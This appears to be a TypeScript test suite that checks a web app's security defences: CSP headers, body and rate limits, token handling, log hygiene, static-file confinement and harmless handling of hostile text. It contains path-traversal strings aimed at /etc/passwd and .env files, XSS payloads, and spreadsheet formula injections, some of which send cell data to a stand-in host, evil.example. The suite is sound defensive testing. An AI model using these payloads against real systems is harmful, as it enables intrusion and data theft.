// The defences SECURITY.md lists, each tried from the attacker's side: headers and a strict CSP, body
// limits (413), rate limits (429), the token compared in constant time and in no log line, static files
// only from the built folder, hostile text (a stored <script>, a javascript: URL, spreadsheet formulas)
// answered and exported harmlessly.
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import request from 'supertest';
import { tokenMatches } from '../../server/http/auth';
import { createApp, type AppOptions } from '../../server/http/app';
import { openDatabase } from '../../server/db/connection';
import { PASSWORD, TOKEN, addAccount, counts, incident, tempDir, testApp, type TestApp } from '../helpers';

/** A raw GET with the path exactly as written (supertest would normalise `..`). */
function rawGet(port: number, p: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    http.get({ host: '127.0.0.1', port, path: p, agent: false }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => { body += d.toString('latin1'); });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    }).on('error', reject);
  });
}

describe('headers', () => {
  let t: TestApp;
  beforeAll(() => { t = testApp(); });
  afterAll(() => t.close());

  test.each(['/', '/api/health', '/api/nope', '/app.js'])('%s carries a strict CSP and helmet headers', async (p) => {
    const res = await t.http.get(p);
    const csp = String(res.headers['content-security-policy']);
    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
    expect(directives).toMatchObject({
      'default-src': "'self'", 'script-src': "'self'", 'object-src': "'none'", 'base-uri': "'none'",
      'frame-ancestors': "'none'", 'form-action': "'self'",
    });
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers['x-powered-by']).toBeUndefined();
  });
});

describe('body limits (413)', () => {
  let t: TestApp;
  let server: http.Server | undefined;
  beforeAll(() => { t = testApp({ importLimitBytes: 4096 }); });
  afterAll(() => t.close());

  const sized = (bytes: number) => {
    const base = JSON.stringify(incident({ quote: '' }));
    return base.replace('"quote":""', `"quote":"${'x'.repeat(bytes - base.length)}"`);
  };

  test('a JSON body of 64 KB is read; one byte more is 413 and stores nothing, on every JSON route', async () => {
    const before = counts(t.db);
    const at = await t.http.post('/api/reports').set(t.auth).set('Content-Type', 'application/json').send(sized(64 * 1024));
    expect(Buffer.byteLength(sized(64 * 1024))).toBe(65536);
    expect(at.status).toBe(400); // read, then refused for the quote's length
    expect(at.body.fields.quote).toBeDefined();
    for (const [method, p] of [['post', '/api/reports'], ['put', '/api/reports/1'], ['post', '/api/session'], ['post', '/api/rename']] as const) {
      const res = await t.http[method](p).set(t.auth).set('Content-Type', 'application/json').send(sized(64 * 1024 + 1));
      expect([p, res.status, res.body.error]).toEqual([p, 413, 'payload_too_large']);
    }
    expect(counts(t.db)).toEqual(before);
  });

  test('a CSV import over the limit is 413, declared or streamed without a length', async () => {
    const big = `date,source,party,metric,kind,value\n${'2021-01-01,A,B,killed,incident,1\n'.repeat(200)}`;
    const declared = await t.http.post('/api/import').set(t.auth).set('Content-Type', 'text/csv').send(big);
    expect([declared.status, declared.body.error]).toEqual([413, 'payload_too_large']);
    // Chunked: no Content-Length, so the limit must be counted as the body streams in.
    const port = await new Promise<number>((resolve) => { const s = http.createServer(t.app).listen(0, '127.0.0.1', () => resolve((s.address() as AddressInfo).port)); server = s; });
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/import', headers: { ...t.auth, 'content-type': 'text/csv', 'transfer-encoding': 'chunked' } }, (res) => { res.resume(); resolve(res.statusCode ?? 0); });
      req.on('error', reject);
      for (let i = 0; i < 10; i++) req.write(big.slice(i * 700, (i + 1) * 700));
      req.end(big.slice(7000));
    });
    server?.close();
    expect(status).toBe(413);
    expect(counts(t.db).reports).toBe(0);
  });
});

describe('rate limits (429)', () => {
  test('wrong tokens and sign-ins are limited per client, and then the right token is refused too; a client that never failed is never limited', async () => {
    const t = testApp({ authFailLimit: 5 });
    try {
      const editor = await addAccount(t, 'Olena', 'editor');
      const statuses: number[] = [];
      for (let i = 0; i < 4; i++) statuses.push((await t.http.post('/api/reports').set('Authorization', `Bearer wrong-${i}-0000000000000`).send(incident())).status);
      statuses.push((await t.http.post('/api/session').send({ name: 'Olena', password: 'guess-0000000000000000' })).status);
      statuses.push((await t.http.post('/api/session').send({ name: 'Olena', password: PASSWORD })).status);
      statuses.push((await t.http.post('/api/reports').set(t.auth).send(incident())).status);
      statuses.push((await t.http.post('/api/reports').set(editor.auth).send(incident())).status);
      statuses.push((await t.http.delete('/api/reports/1')).status);
      // Over the limit every request with credentials is 429, the right ones included: the limit must not
      // let a guesser go on, nor tell it when a guess was right.
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429, 429, 429, 429]);
      const limited = await t.http.post('/api/reports').set('Authorization', 'Bearer wrong').send(incident());
      expect(limited.body).toMatchObject({ error: 'rate_limited' });
      expect(counts(t.db).reports).toBe(0);
    } finally {
      t.close();
    }
    const fresh = testApp({ authFailLimit: 5 });
    try {
      for (let i = 0; i < 30; i++) expect((await fresh.http.post('/api/reports').set(fresh.auth).send(incident({ value: i }))).status).toBe(201);
      expect(counts(fresh.db).reports).toBe(30);
    } finally {
      fresh.close();
    }
  });
});

describe('reads without an account', () => {
  test('are refused (401) but not counted as guesses: a signed-out page cannot lock its address out of signing in', async () => {
    const t = testApp({ authFailLimit: 5 });
    try {
      await addAccount(t, 'Olena', 'editor');
      // Before: each counted, and the sixth sign-in from the address was 429.
      for (let i = 0; i < 10; i++) expect((await t.http.get('/api/recipes')).status).toBe(401);
      expect((await t.http.post('/api/session').send({ name: 'Olena', password: PASSWORD })).status).toBe(201);
    } finally {
      t.close();
    }
  });
});

describe('the token', () => {
  test('is compared in constant time: both sides hashed, then crypto.timingSafeEqual', () => {
    const spy = jest.spyOn(crypto, 'timingSafeEqual');
    try {
      expect(tokenMatches(TOKEN, TOKEN)).toBe(true);
      expect(tokenMatches('x', TOKEN)).toBe(false);
      expect(tokenMatches(TOKEN + 'x', TOKEN)).toBe(false);
      expect(tokenMatches(TOKEN.slice(0, -1) + 'g', TOKEN)).toBe(false);
      expect(spy).toHaveBeenCalledTimes(4);
      // Equal-length inputs whatever was given: the comparison time cannot depend on the length either.
      for (const [a, b] of spy.mock.calls) expect([(a as Buffer).length, (b as Buffer).length]).toEqual([32, 32]);
    } finally {
      spy.mockRestore();
    }
  });

  test('is in no log line, nor is a session cookie; each request is logged once with its request id', async () => {
    const lines: string[] = [];
    const logger = pino({ level: 'trace' }, new Writable({ write(c: Buffer, _e, done) { lines.push(c.toString()); done(); } }));
    const t = testApp({ logger });
    try {
      const ids: string[] = [];
      const track = (res: request.Response) => { ids.push(String(res.headers['x-request-id'])); return res; };
      const olena = await addAccount(t, 'Olena', 'editor');
      const signIn = track(await t.http.post('/api/session').send({ name: 'Olena', password: PASSWORD }));
      const cookie = String(signIn.headers['set-cookie']).split(';')[0]!;
      const session = cookie.split('=')[1]!;
      track(await t.http.post('/api/reports').set(t.auth).send(incident()));
      track(await t.http.post('/api/reports').set(olena.auth).send(incident()));
      track(await t.http.get(`/api/reports?token=${olena.token}`));
      track(await t.http.post('/api/session').send({ name: 'Olena', password: PASSWORD + 'x' }));
      track(await t.http.get('/api/reports?deleted=only').set(t.auth));
      track(await t.http.get(`/api/reports?token=${TOKEN}&access_token=${TOKEN}`));
      track(await t.http.post('/api/reports').set('Cookie', cookie).set('Sec-Fetch-Site', 'same-origin').send(incident()));
      track(await t.http.post('/api/reports').set('Authorization', `Bearer ${TOKEN}x`).send(incident()));
      track(await t.http.post('/api/session').send({ name: '', password: PASSWORD }));
      track(await t.http.post('/api/session').set('Content-Type', 'application/json').send(`{"name":"Olena","password":"${PASSWORD}",`));
      track(await t.http.delete('/api/session').set('Cookie', cookie));
      const text = lines.join('');
      expect(text).not.toContain(TOKEN);
      expect(text).not.toContain(olena.token);
      expect(text).not.toContain(PASSWORD);
      expect(text).not.toContain(session);
      expect(text).not.toMatch(/Bearer |tally_session=/);
      // Structured: one JSON line per request, carrying the id the answer named in X-Request-Id.
      const logged = lines.map((l) => JSON.parse(l) as { req?: { id?: string }; res?: { statusCode?: number } }).filter((l) => l.req?.id);
      expect(logged.map((l) => l.req!.id).sort()).toEqual([...ids].sort());
      for (const id of ids) expect(id).toMatch(/^[0-9a-f-]{36}$/);
    } finally {
      t.close();
    }
  });
});

describe('static files only from the built folder', () => {
  const dir = tempDir('tally-static-');
  const web = path.join(dir, 'web');
  let server: http.Server;
  let port = 0;
  beforeAll(async () => {
    fs.mkdirSync(web);
    fs.writeFileSync(path.join(web, 'index.html'), '<!doctype html><title>ok</title>');
    fs.writeFileSync(path.join(web, '.env'), 'SECRET-DOTFILE');
    fs.writeFileSync(path.join(dir, 'secret.txt'), 'SECRET-OUTSIDE');
    const db = openDatabase(path.join(dir, 'tally.db'));
    const options: AppOptions = { token: TOKEN, webRoot: web };
    server = http.createServer(createApp(db, options));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    server.on('close', () => db.close());
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('the built files are served', async () => {
    expect(await rawGet(port, '/')).toEqual({ status: 200, body: '<!doctype html><title>ok</title>' });
  });

  test.each([
    '/../secret.txt', '/%2e%2e/secret.txt', '/..%2fsecret.txt', '/%2e%2e%2fsecret.txt', '/..%5csecret.txt', '/..\\secret.txt',
    '/./../secret.txt', '//../secret.txt', '/%252e%252e/secret.txt', '/%c0%ae%c0%ae/secret.txt', '/index.html/../../secret.txt',
    '/.env', '/%2eenv', '/web/../secret.txt', '/api/../../secret.txt', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/secret.txt%00.html', '/..%00/secret.txt',
  ])('%s reveals nothing', async (p) => {
    const res = await rawGet(port, p);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    expect(res.body).not.toMatch(/SECRET|root:/);
  });
});

describe('hostile text is stored as text and answered harmlessly', () => {
  let t: TestApp;
  beforeAll(() => { t = testApp(); });
  afterAll(() => t.close());

  const hostile = {
    source: '=HYPERLINK("http://evil.example/?"&A1,"click")', via: '+cmd|\' /C calc\'!A0', party: '@SUM(1+1)*cmd',
    location: '-2+3', event: '\t=1', quote: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
    notes: '\r=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', url: 'https://example.org/"><script>alert(1)</script>',
  };

  test('a javascript:, data: or vbscript: URL is refused', async () => {
    for (const url of ['javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'java\tscript:alert(1)']) {
      const res = await t.http.post('/api/reports').set(t.auth).send(incident({ url }));
      expect([url, res.status, Object.keys(res.body.fields ?? {})]).toEqual([url, 400, ['url']]);
    }
  });

  test('JSON answers are JSON (nosniff), the text exactly as stored', async () => {
    const created = await t.http.post('/api/reports').set(t.auth).send(incident(hostile));
    expect(created.status).toBe(201);
    const got = await t.http.get(`/api/reports/${created.body.id}`);
    expect(got.headers['content-type']).toMatch(/^application\/json/);
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    // Trimmed as every text is; otherwise exact.
    expect(got.body).toMatchObject({ ...hostile, event: '=1', notes: hostile.notes.trim() });
  });

  test('the CSV export defuses every formula cell, and importing it back gives the text exactly', async () => {
    const res = await t.http.get('/api/reports.csv?download=1');
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment/);
    const [, row] = res.text.split('\r\n');
    const cells = row!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toEqual(expect.arrayContaining([`'${hostile.source}`, `'${hostile.via}`, `'${hostile.party}`, `'${hostile.location}`, `'=1`, `'${hostile.notes.trim()}`]));
    const before = counts(t.db);
    const back = await t.http.post('/api/import').set(t.auth).set('Content-Type', 'text/csv').send(res.text);
    expect(back.body).toMatchObject({ inserted: 0, updated: 0, unchanged: 1 });
    expect(counts(t.db)).toEqual(before);
  });

  test('the dashboard code builds no markup from text (no innerHTML, document.write or eval) and links only http(s)', () => {
    const webDir = path.join(__dirname, '..', '..', 'web');
    const sinks = /\.(innerHTML|outerHTML)\s*[+]?=|insertAdjacentHTML\s*\(|document\.write(ln)?\s*\(|\beval\s*\(|new\s+Function\s*\(|setAttribute\(\s*['"]on/;
    const found: string[] = [];
    for (const f of fs.readdirSync(webDir).filter((n) => n.endsWith('.ts'))) {
      const code = fs.readFileSync(path.join(webDir, f), 'utf8').replace(/\/\*[\s\S]*?\*\//g, '').replace(/^\s*\/\/.*$/gm, '');
      code.split('\n').forEach((line, i) => { if (sinks.test(line)) found.push(`${f}:${i + 1}: ${line.trim()}`); });
    }
    expect(found).toEqual([]);
  });
});
